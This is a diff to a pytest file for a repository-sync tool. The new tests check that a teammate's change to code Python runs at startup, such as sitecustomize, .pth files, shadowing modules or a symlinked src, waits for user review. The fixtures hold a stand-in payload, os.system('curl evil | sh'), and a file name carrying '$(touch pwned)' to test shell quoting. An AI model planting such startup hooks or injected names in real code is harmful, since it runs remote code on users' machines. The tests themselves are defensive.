@@ -4,6 +4,7 @@ Every test that leaves a clone alone also proves that nothing in it changed."""
 from __future__ import annotations
 
 import os
+import re
 import signal
 import subprocess
 import sys
@@ -187,9 +188,9 @@ def test_a_teammates_change_to_editor_config_waits_for_the_user(
     assert snapshot(clone) == before
     assert git(clone, "rev-parse", "origin/main") == remote.head()  # fetched all the same
     status = (home / "sync-status.md").read_text()
-    assert f"git diff HEAD origin/main -- {path}" in status and "git pull --ff-only" in status
-    # once the user has looked and pulled, updates go on as before
-    git(clone, "pull", "--quiet", "--ff-only")
+    assert f"git diff HEAD origin/main -- {path}" in status and "git merge --ff-only origin/main" in status
+    # once the user has looked and taken it, updates go on as before
+    git(clone, "merge", "--quiet", "--ff-only", "origin/main")
     new = remote.commit({"dags/train.py": "print('train v3')\n"}, "v3")
     assert run_sync(remote, home).state == "updated" and git(clone, "rev-parse", "HEAD") == new
 
@@ -216,6 +217,103 @@ def test_files_that_only_look_like_editor_config_are_updated(remote: Remote, hom
 
     assert run_sync(remote, home).state == "updated"
     assert git(clone, "rev-parse", "HEAD") == new
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "src/usercustomize.py",
+        "src/skin_cancer/extra.pth",  # a .pth in a subfolder: a venv or --target there runs it
+        ".venv/lib/python3.11/site-packages/evil.pth",
+        "lib/sitecustomize/__init__.py",  # a package is imported as well as a module
+        "src/_distutils_hack/__init__.py",  # setuptools' .pth imports it at every start
+        "src/json.py",  # src/ comes before the standard library on PYTHONPATH
+        "src/encodings/utf_8.py",
+    ],
+)
+def test_a_teammates_change_to_what_python_runs_at_start_waits_for_the_user(
+    remote: Remote, home: Path, clone: Path, path: str
+) -> None:
+    """The clone's src/ is first on the path of every `python` the user (or VS Code) starts:
+    code Python imports by itself there would run as them, without their action."""
+    remote.commit({path: "import os; os.system('curl evil | sh')\n", "dags/train.py": "print('v2')\n"}, "bob")
+    before = snapshot(clone)
+
+    outcome = run_sync(remote, home)
+
+    assert (outcome.state, outcome.ok, outcome.files) == ("review_python_startup", True, [path])
+    assert snapshot(clone) == before
+    assert git(clone, "rev-parse", "origin/main") == remote.head()  # fetched all the same
+    status = (home / "sync-status.md").read_text()
+    assert "Python runs by itself when it starts" in status
+    assert f"git diff HEAD origin/main -- {path}" in status and "git merge --ff-only origin/main" in status
+
+
+def test_src_turned_into_a_link_waits_for_the_user(remote: Remote, home: Path, clone: Path) -> None:
+    """`src` as a link to another folder would put that folder's modules (here a json.py)
+    first on the path without naming them under src/."""
+    remote.commit({"src/model.py": "x = 1\n"}, "src")
+    assert run_sync(remote, home).state == "updated"
+    work = remote.teammate
+    git(work, "rm", "--quiet", "-r", "src")
+    (work / "lib").mkdir()
+    (work / "lib" / "json.py").write_text("import os; os.system('curl evil | sh')\n")
+    (work / "src").symlink_to("lib")
+    git(work, "add", "-A")
+    git(work, "commit", "--quiet", "-m", "link")
+    git(work, "push", "--quiet", "origin", "HEAD:main")
+    before = snapshot(clone)
+
+    outcome = run_sync(remote, home)
+
+    assert outcome.state == "review_python_startup" and "src" in outcome.files
+    assert snapshot(clone) == before and (clone / "src").is_dir() and not (clone / "src").is_symlink()
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "src/skin_cancer/model.py",
+        "src/__init__.py",
+        "src/json_tools.py",
+        "src/skin_cancer/json.py",  # imported as skin_cancer.json, never as json
+        "docs/sitecustomize.md",
+        "notes/encodings.md",
+        "dags/pipeline.py",
+    ],
+)
+def test_ordinary_changes_to_code_are_still_updated(
+    remote: Remote, home: Path, clone: Path, path: str
+) -> None:
+    new = remote.commit({path: "x = 1\n"}, "ordinary")
+
+    assert run_sync(remote, home).state == "updated"
+    assert git(clone, "rev-parse", "HEAD") == new
+
+
+def test_editor_config_and_startup_code_at_once_are_both_named(
+    remote: Remote, home: Path, clone: Path
+) -> None:
+    remote.commit({".vscode/settings.json": "{}\n", "src/sitecustomize.py": "x = 1\n"}, "both")
+
+    outcome = run_sync(remote, home)
+
+    assert outcome.files == [".vscode/settings.json", "src/sitecustomize.py"]
+    assert "editor or shell act on" in outcome.summary and "Python runs by itself" in outcome.summary
+    assert "-- .vscode/settings.json src/sitecustomize.py`" in outcome.advice
+
+
+def test_file_names_in_the_advice_are_quoted_for_the_shell(remote: Remote, home: Path, clone: Path) -> None:
+    """The names come from a teammate's commit, and the user pastes the command."""
+    path = ".vscode/$(touch pwned).json"
+    remote.commit({path: "{}\n"}, "a name that runs a command")
+
+    outcome = run_sync(remote, home)
+
+    command = re.search(r"`(git diff [^`]*)`", outcome.advice).group(1)
+    shown = subprocess.run(["sh", "-c", command], cwd=clone, capture_output=True, text=True, check=True)
+    assert not (clone / "pwned").exists()
+    assert path in shown.stdout
 
 
 @pytest.mark.parametrize("ignored", [False, True], ids=["untracked", "ignored"])
